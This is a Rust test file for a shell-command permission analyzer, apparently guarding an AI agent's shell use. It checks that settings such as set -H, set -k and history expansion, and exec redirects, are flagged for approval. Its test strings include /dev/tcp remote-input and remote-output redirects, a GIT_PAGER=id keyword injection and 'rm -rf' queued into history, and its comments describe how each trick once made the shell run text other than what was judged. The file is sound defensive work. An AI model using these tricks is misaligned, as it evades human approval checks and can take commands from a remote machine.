//! Settings by which a shell reads another text than the one that was judged.

use super::*;

/// A line for a shell that ran others before.
fn continued(command: &str) -> Action {
    analyze(command, &CommandContext { continues: true, ..context() }).verdict.action
}

/// Without its line editor a shell of a session ran what was typed ahead, at a return; without comments it ran what stood in one.
#[test]
fn asks_about_settings_that_a_session_needs_and_that_are_taken_away() {
    for command in [
        "set +o emacs",
        "set +o vi",
        "set +o emacs +o vi",
        "set +o emacs; set +o vi",
        "set +e +o vi",
        "set +eo emacs",
        "set +oe vi",
        "set +oo errexit vi",
        "set -e +o emacs",
        "set -oo errexit vi",
        "set +o interactive-comments",
        "set +o $X",
        "set +e{x,o} emacs",
        "eval 'set +o emacs'",
        "builtin set +o vi",
        "command set +o emacs",
        "shopt -uo emacs",
        "shopt -u interactive_comments",
        "bash +O interactive_comments -c ls",
        "bash +o interactive-comments -c ls",
        "bash -oo errexit histexpand -c ls",
    ] {
        assert_eq!(action(command), Action::Ask, "{command}");
        assert_eq!(continued(command), Action::Ask, "{command}");
    }
    for command in
        ["set +o noglob", "set +eo pipefail", "set +oo errexit nounset", "set +o", "set +ex", "bash +o errexit -c ls"]
    {
        assert_eq!(continued(command), Action::Allow, "{command}");
    }
}

/// `set -H`, and then `!!:1-$` ran what `echo sudo id` was judged for; `set -k` makes `GIT_PAGER=id` behind `git log` count.
#[test]
fn asks_about_settings_that_change_how_a_shell_reads() {
    for command in [
        "set -H",
        "set -eH",
        "set -Hu",
        "set -o histexpand",
        "set -eo histexpand",
        "set +e -o histexpand",
        "set +o vi -H",
        "set -o history",
        "set -o vi",
        "set -o emacs",
        "set -o posix",
        "set -k",
        "set -o keyword",
        "set -euk",
        "set -o $X",
        "set -$X",
        "set $X",
        "builtin set -H",
        "command set -H",
        "s'e't -H",
        "bash -H -c 'echo x'",
        "bash -kc 'printenv GIT_PAGER GIT_PAGER=id'",
        "bash -c 'set -k; git log GIT_PAGER=id'",
        "bash -o histexpand -c ls",
        "bash -eo keyword -c ls",
        "bash -O extdebug -c ls",
        "sh -k x.sh",
        "history -s 'rm -rf x'",
        "history -p '!!'",
        "history -cs x",
    ] {
        assert_eq!(action(command), Action::Ask, "{command}");
        assert_eq!(continued(command), Action::Ask, "{command}");
    }
    for command in [
        "set -eu",
        "set -euo pipefail",
        "set -x",
        "set +H",
        "set +o histexpand",
        "set -o errexit -o nounset",
        "set -- -H",
        "set -- $X",
        "set a b -H",
        "set",
        "set -o",
        "bash -ec ls",
        "bash -euo pipefail -c ls",
        "bash -o posix -c ls",
        "sh -x ./x.sh",
        "history",
        "history 20",
        "echo set -H",
    ] {
        assert_eq!(action(command), Action::Allow, "{command}");
        assert_eq!(continued(command), Action::Allow, "{command}");
    }
}

#[test]
fn asks_about_history_only_where_a_shell_may_expand_it() {
    for command in [
        "!!",
        "!!:1-$",
        "!echo:1-$",
        "!-2",
        "echo a; !e",
        "echo \"!!\"",
        "echo a!b",
        "echo 'a' !x",
        "echo \"it's !x\"",
        "^sudo^ls",
        "echo a\n^x^sudo^",
        "echo 'a\n!sudo'",
        "echo \\\\!x",
        "$!x",
    ] {
        assert_eq!(continued(command), Action::Ask, "{command}");
        let at_prompt = CommandContext { continues: true, expands_history: false, ..context() };
        let analysis = analyze(command, &at_prompt);
        assert!(!analysis.unresolved.iter().any(|reason| reason.contains("earlier text")), "{command}: {analysis:?}");
    }
    for command in [
        "git commit -m \"fix! bug\"",
        "echo hi!",
        "echo \"hi!\"",
        "echo '!!'",
        "echo \\!x",
        "[ ! -f x ] && echo y",
        "[ a != b ]",
        "if ! make; then echo no; fi",
        "! make",
        "find . ! -name x",
        "find . -not \\( -name x ! -name y \\)",
        "ls [!a]*",
        "echo a $! b",
        "grep -n '^a^b' x",
        "npm test; echo done!; ls",
    ] {
        assert_eq!(continued(command), Action::Allow, "{command}");
    }
    for command in ["echo a!b", "git commit -m \"wow!it works\""] {
        assert_eq!(action(command), Action::Allow, "{command}");
    }
}

/// `exec </dev/tcp/host/port` made the shell of a session run what another machine sent.
#[test]
fn asks_where_a_shell_gets_another_input() {
    for command in [
        "exec </dev/tcp/127.0.0.1/4010",
        "exec < x",
        "exec 0<x",
        "exec 3<x",
        "exec <&3",
        "exec 0<&3",
        "exec <>x",
        "exec <<'A'\nls\nA",
        "exec <<< ls",
        "command exec < x",
        "exec -a y < x",
        "builtin exec -c < x",
    ] {
        assert_eq!(continued(command), Action::Ask, "{command}");
    }
    for command in ["exec 2>&1", "exec > log", "exec > log 2>&1", "exec make < x", "cat < x", "echo exec < x"] {
        assert_eq!(continued(command), Action::Allow, "{command}");
    }
    for command in [
        "cat < /dev/tcp/h/80",
        "echo x > /dev/tcp/h/80",
        "exec 3<>/dev/udp/h/53",
        "ls >& /dev/tcp/h/1",
        "cat <//dev/./tcp/h/1",
    ] {
        assert_eq!(action(command), Action::Ask, "{command}");
    }
}
